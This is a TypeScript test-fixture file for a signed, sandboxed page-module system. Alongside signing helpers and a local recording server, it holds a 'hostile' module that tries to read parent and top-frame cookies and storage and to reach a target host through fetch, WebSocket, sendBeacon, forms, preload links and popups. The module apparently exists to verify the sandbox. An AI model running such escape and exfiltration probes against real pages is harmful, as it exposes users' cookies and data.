import { generateKeyPairSync, sign } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';

const { privateKey, publicKey } = generateKeyPairSync('ed25519');

/** The value of STAGE_PAGE_KEYS for modules of the vendor `x_acme` that `signedModule` signs. */
export const ACME_KEY = `x_acme=${Buffer.from(publicKey.export({ format: 'jwk' }).x ?? '', 'base64url').toString('base64')}`;

/** The private key of `x_acme`, as a PEM file. */
export const ACME_PEM = String(privateKey.export({ type: 'pkcs8', format: 'pem' }));

/** Returns a page module that is signed for a kind. */
export const signedModule = (kind: string, code: string) => ({
  code,
  signature: sign(null, Buffer.from(`gatehouse stage page 1\n${kind}\n${code}`), privateKey).toString('base64'),
});

/** A module that shows a word and the errors, and answers by buttons. */
export const FRIENDLY = `
const button = (text, fields) => {
  const element = document.createElement('button');
  element.textContent = text;
  element.onclick = () => port.postMessage({ type: 'answer', fields });
  return element;
};
const draw = ({ challenge, errors, locale }) => document.body.replaceChildren(
  [challenge.word, locale, ...(errors.place ?? []).map(({ string }) => string)].join(' | '),
  button('Right', { place: 'here' }), button('Wrong', { place: 'there' }),
);
let port;
addEventListener('message', ({ data, ports }) => {
  [port] = ports;
  port.onmessage = (event) => draw(event.data);
  draw(data);
  port.postMessage({ type: 'height', height: 222 });
  port.postMessage({ type: 'ready' });
});`;

const HOSTILE = `
const results = (globalThis.results = {});
const attempt = async (name, run) => {
  try { results[name] = String(await run()); } catch (error) { results[name] = 'refused: ' + error; }
};
const event = (target) => new Promise((resolve, reject) => {
  target.onload = target.onopen = () => resolve('opened');
  target.onerror = () => reject('error');
});
addEventListener('message', async ({ ports: [port] }) => {
  globalThis.port = port;
  await attempt('document', () => parent.document.title);
  await attempt('top document', () => top.document.cookie);
  await attempt('cookie', () => document.cookie);
  await attempt('localStorage', () => localStorage.length);
  await attempt('sessionStorage', () => sessionStorage.length);
  await attempt('indexedDB', () => indexedDB.open('x'));
  await attempt('fetch', () => fetch('TARGET/fetch', { mode: 'no-cors' }));
  await attempt('own API', () => fetch(parent.origin));
  await attempt('import', () => import('TARGET/import'));
  await attempt('image', () => { const image = new Image(); image.src = 'TARGET/image'; return event(image); });
  await attempt('WebSocket', () => event(new WebSocket('TARGET/socket'.replace('http', 'ws'))));
  await attempt('EventSource', () => event(new EventSource('TARGET/events')));
  await attempt('eval', () => eval('1'));
  await attempt('script', () => {
    const script = document.createElement('script');
    script.src = 'TARGET/script';
    document.head.append(script);
    return event(script);
  });
  await attempt('top navigation', () => { top.location = 'TARGET/top'; });
  await attempt('popup', () => open('TARGET/popup') ?? Promise.reject('none'));
  navigator.sendBeacon('TARGET/beacon', 'x');
  const form = document.createElement('form');
  form.action = 'TARGET/form';
  document.body.append(form);
  form.submit();
  for (const rel of ['stylesheet', 'prefetch', 'modulepreload', 'preload', 'prerender', 'manifest', 'icon']) {
    const link = Object.assign(document.createElement('link'), { rel, as: 'image', href: 'TARGET/' + rel });
    document.head.append(link);
  }
  const frame = document.createElement('iframe');
  frame.src = 'TARGET/frame';
  document.body.append(frame);
  port.postMessage({ type: 'ready' });
});`;

/**
 * Returns a module that tries to escape from its frame, and to reach `target`. `results` contains the outcome of each
 * attempt.
 */
export const hostileModule = (target: string) => HOSTILE.replaceAll('TARGET', target);

/** A server that records the first line of each request, and each connection. */
export async function recordingServer() {
  const received: string[] = [];
  const server = createServer((socket) => {
    socket.on('data', (data) => received.push(data.toString().split('\r\n')[0] ?? ''));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, received, close: () => server.close() };
}
